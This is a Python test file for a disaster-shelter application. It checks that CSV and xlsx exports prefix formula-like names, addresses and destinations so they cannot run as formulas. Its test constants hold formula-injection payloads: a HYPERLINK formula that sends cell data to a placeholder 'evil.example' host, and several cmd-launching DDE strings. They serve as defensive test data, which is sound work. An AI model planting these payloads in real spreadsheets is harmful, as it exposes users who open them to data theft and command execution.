"""Formula injection: a name, address or destination typed as `=…`, `+…`, `-…`, `@…`, TAB or CR
must never become a live formula in any file the shelter writes for a spreadsheet.

Every exporter is fed such values through the real CLI, services and HTTP routes; CSV cells are
read back with the csv module (each risky cell starts with an apostrophe), xlsx files with
openpyxl (no formula cell anywhere, the typed text kept as is). A last test fails when a module
writes CSV or xlsx without going through `app.formats.tables`.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
from fastapi.testclient import TestClient
from sqlmodel import Session

from app.db import open_shelter_db
from app.formats.tables import FORMULA_START, safe_text
from tests.conftest import Cli, write_csv
from tests.web.helpers import login

HEADER = ["宛名番号", "世帯番号", "氏", "名", "氏カナ", "名カナ", "英字氏名", "生年月日", "性別", "続柄", "郵便番号", "住所", "閲覧制限"]
EVIL_SURNAME = '=HYPERLINK("http://evil.example/?"&A1)'
EVIL_GIVEN = "+cmd|' /C calc'!A0"
EVIL_ADDR = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_ADDR2 = "-2+3+cmd|' /C calc'!A0"
EVIL_DEST = "=1+1"
EVIL_TAB = "\t=1+2"
EVIL_CR = "\r=1+3"
REGISTRY = [
    ["2001", "H1", EVIL_SURNAME, EVIL_GIVEN, "イビル", "タロウ", "", "S45.3.1", "1", "世帯主", "", EVIL_ADDR, ""],
    ["2002", "H2", "安全", "花子", "アンゼン", "ハナコ", "", "1980-01-01", "2", "世帯主", "", EVIL_ADDR2, ""],
]
EVILS = (EVIL_SURNAME, EVIL_GIVEN, EVIL_ADDR, EVIL_ADDR2, EVIL_DEST, "=危険")


def _setup(tmp_path: Path, cli: Cli) -> str:
    """Registry with formula-looking names/addresses; one evacuee typed with them who left with a
    formula-looking destination. Returns the evacuee's id."""
    from app.services import evacuees
    from app.services.reconcile import staff_decide
    from app.services.roster import EvacueeInput, register

    code, _, err = cli("registry", "import", write_csv(tmp_path / "juki.csv", [HEADER, *REGISTRY]), "--as-of", "2026-10-31")
    assert code == 0, err
    engine = open_shelter_db(cli.db)
    with Session(engine, expire_on_commit=False) as s:
        ev = register(s, EvacueeInput(name="=危険 太郎", address=EVIL_ADDR, phone="+81-90-1111-2222",
                                      external_key="=EXT", birth_date="S45.3.1", sex="男"), by="佐藤")
        s.commit()
        staff_decide(s, ev.id, "confirmed", "2001", by="佐藤")
        evacuees.check_out(s, ev.id, by="佐藤", destination=EVIL_DEST)
        s.commit()
    engine.dispose()
    return ev.id


def _assert_csv_safe(text: str, must_hold: tuple[str, ...] = ()) -> list[list[str]]:
    """No cell starts like a formula; every value in `must_hold` is there, behind an apostrophe."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [c for r in rows for c in r]
    bad = [c for c in cells if c[:1] in FORMULA_START and not re.fullmatch(r"[+-]?\d+(\.\d*)?", c)]
    assert not bad, bad
    for value in must_hold:
        assert any(c == "'" + value or (c.startswith("'") and value in c) for c in cells), (value, cells[:40])
    return rows


def _assert_xlsx_safe(data: bytes, must_hold: tuple[str, ...] = ()) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in FORMULA_START:
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    text = "\n".join(str(v) for v in values if v is not None)
    for value in must_hold:
        assert value in text, value  # kept exactly as typed (no apostrophe inside an xlsx string cell)


def test_safe_text_leaves_numbers_and_plain_text() -> None:
    assert safe_text(-3) == -3 and safe_text(2.5) == 2.5 and safe_text("-3") == "-3" and safe_text("+81") == "+81"
    assert safe_text("高橋") == "高橋" and safe_text("") == "" and safe_text(None) is None
    for v in ("=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "-", "+81-90-1234-5678"):
        assert safe_text(v) == "'" + v


def test_cli_anpi_list_csv_xlsx_and_reports(tmp_path: Path, cli: Cli) -> None:
    _setup(tmp_path, cli)
    for enc in ("utf-8-sig", "cp932"):
        out = tmp_path / f"list-{enc}.csv"
        code, _, err = cli("export", "anpi-list", "--format", "csv", "--encoding", enc, "--out", out)
        assert code == 0, err
        _assert_csv_safe(out.read_bytes().decode(enc), (EVIL_SURNAME, EVIL_ADDR, EVIL_ADDR2))
        text = out.read_bytes().decode(enc)
        assert EVIL_DEST in text  # the destination is in the list…
    out = tmp_path / "list.xlsx"
    code, _, err = cli("export", "anpi-list", "--format", "xlsx", "--out", out)
    assert code == 0, err
    _assert_xlsx_safe(out.read_bytes(), (EVIL_SURNAME, EVIL_ADDR, EVIL_ADDR2))
    # the replacement report (FILE.replacements.csv): a key typed like a formula
    from app.formats.anpi_list_export import Replacement, replacement_report_bytes

    rep = replacement_report_bytes([Replacement(1, "=1+1", "氏名", "𠮷", "吉")])
    _assert_csv_safe(rep.decode("utf-8-sig"), ("=1+1",))
    # reconcile's CSV (evacuee_id is the roster's own key, typed by volunteers)
    out = tmp_path / "reconcile.csv"
    assert cli("reconcile", "--out", out)[0] == 0
    _assert_csv_safe(out.read_text(encoding="utf-8-sig"), ("=EXT",))


def test_roster_rejects_and_audit_export(tmp_path: Path, cli: Cli) -> None:
    roster = write_csv(tmp_path / "meibo.csv", [["氏名", "生年月日", "住所"], ["=危険 花子", "=1+2", EVIL_ADDR],
                                                ["普通 一郎", "S45.3.1", "高田町1"]])
    code, _, err = cli("roster", "import", roster, "--rejects", tmp_path / "rejects.csv")
    assert code == 0, err
    rejects = tmp_path / "rejects.csv"
    assert rejects.exists()
    _assert_csv_safe(rejects.read_text(encoding="utf-8-sig"), ("=1+2",))
    from app.services import accounts, audit

    engine = open_shelter_db(cli.db)
    with Session(engine) as s:
        audit.record(s, accounts.add_user(s, "=HYPERLINK(1)", "staff", "1234"), "login", "POST /switch")
        s.commit()
    engine.dispose()
    out = tmp_path / "audit.csv"
    code, _, err = cli("audit", "export", "--out", out)
    assert code == 0, err
    _assert_csv_safe(out.read_text(encoding="utf-8-sig"), ("=HYPERLINK(1)",))


def test_http_exports(tmp_path: Path, cli: Cli) -> None:
    """/hq/export (csv, cp932, xlsx, report) and /api/evacuees/export.csv as HQ downloads them."""
    from app.main import create_app
    from app.services import accounts

    _setup(tmp_path, cli)
    engine = open_shelter_db(cli.db)
    with Session(engine) as s:
        accounts.add_user(s, "本部", "hq", "2222")
        s.commit()
    engine.dispose()
    app = create_app(cli.db)
    try:
        with TestClient(app) as c:
            login(c, "本部", "2222")
            r = c.get("/api/evacuees/export.csv")
            assert r.status_code == 200, r.text
            _assert_csv_safe(r.content.decode("utf-8-sig"), ("=危険", EVIL_ADDR, "=EXT", "+81-90-1111-2222"))
            for query, enc in (("format=csv", "utf-8-sig"), ("format=csv&encoding=cp932", "cp932"),
                               ("format=csv&report=1", "utf-8-sig")):
                r = c.get("/hq/export?" + query)
                assert r.status_code == 200, r.text
                _assert_csv_safe(r.content.decode(enc), () if "report" in query else (EVIL_SURNAME, EVIL_ADDR))
            r = c.get("/hq/export?format=xlsx")
            assert r.status_code == 200
            _assert_xlsx_safe(r.content, (EVIL_SURNAME, EVIL_ADDR))
    finally:
        app.state.engine.dispose()


WRITER = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|openpyxl\.Workbook|xlsxwriter")


def test_every_table_writer_goes_through_tables_module() -> None:
    """A new CSV/xlsx writer that bypasses app.formats.tables fails here."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for base in ("app", "sync", "matching"):
        for path in (root / base).rglob("*.py"):
            if path.name == "tables.py" and path.parent.name == "formats":
                continue
            for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if WRITER.search(line) and not line.lstrip().startswith("#"):
                    offenders.append(f"{path.relative_to(root)}:{n}: {line.strip()}")
    assert not offenders, "write tables through app.formats.tables:\n" + "\n".join(offenders)
